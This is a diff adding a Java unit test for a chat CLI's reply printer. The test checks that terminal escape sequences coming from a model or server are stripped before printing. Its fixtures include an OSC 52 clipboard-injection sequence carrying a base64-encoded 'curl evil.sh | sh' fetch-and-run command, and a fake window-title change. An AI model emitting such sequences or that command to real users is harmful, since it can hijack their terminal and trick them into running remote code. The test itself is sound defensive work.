@@ -1,0 +1,46 @@
+package dev.chatstream.cli;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.chatstream.core.Action;
+import dev.chatstream.core.ChatEvent;
+import dev.chatstream.core.ErrorCode;
+import dev.chatstream.core.Usage;
+import java.io.PrintWriter;
+import java.io.StringWriter;
+import java.util.Map;
+import org.junit.jupiter.api.Test;
+
+/** What reaches the terminal: never an escape sequence the model or a server wrote (issue 22, finding 9). */
+class ReplyPrinterTest {
+    private static final String TITLE = "\u001b]0;you have been hacked\u0007";
+    private static final String CLIPBOARD = "\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007";
+
+    private final StringWriter out = new StringWriter();
+    private final StringWriter err = new StringWriter();
+    private final ReplyPrinter printer = new ReplyPrinter(new PrintWriter(out), new PrintWriter(err), new Style(false),
+            false, true);
+
+    @Test
+    void shouldStripControlCharactersButNewlinesAndTabsFromEverythingItPrints() {
+        printer.send(new ChatEvent.Thinking("hmm" + TITLE));
+        printer.send(new ChatEvent.Chunk("Olá" + TITLE + "\tmundo\r\n"));
+        printer.send(new ChatEvent.Chunk("fim" + CLIPBOARD + "\u009b2J\u007f"));
+        printer.send(new ChatEvent.ActionRequested(new Action("tool" + TITLE, Map.of("name", "x" + CLIPBOARD))));
+        printer.send(new ChatEvent.InvalidAction("bad" + TITLE));
+        printer.send(new ChatEvent.Failed(ErrorCode.LLM_FAILED, "boom" + CLIPBOARD));
+
+        assertThat(out.toString()).isEqualTo("Olá]0;you have been hacked\tmundo\nfim]52;c;Y3VybCBldmlsLnNoIHwgc2g=2J\n");
+        assertThat(out.toString() + err).doesNotContain("\u001b", "\u0007", "\r", "\u009b", "\u007f");
+        assertThat(err.toString()).contains("thinking: hmm]0;you have been hacked", "boom]52;c;");
+    }
+
+    @Test
+    void shouldLeavePlainTextAsItIs() {
+        printer.send(new ChatEvent.Chunk("Ligo o ar 🌡️ a 22 °C —\tjá.\n"));
+        printer.send(new ChatEvent.Done(Usage.unknown()));
+
+        assertThat(out.toString()).isEqualTo("Ligo o ar 🌡️ a 22 °C —\tjá.\n");
+        assertThat(ReplyPrinter.printable("日本語 \"x\"")).isEqualTo("日本語 \"x\"");
+    }
+}
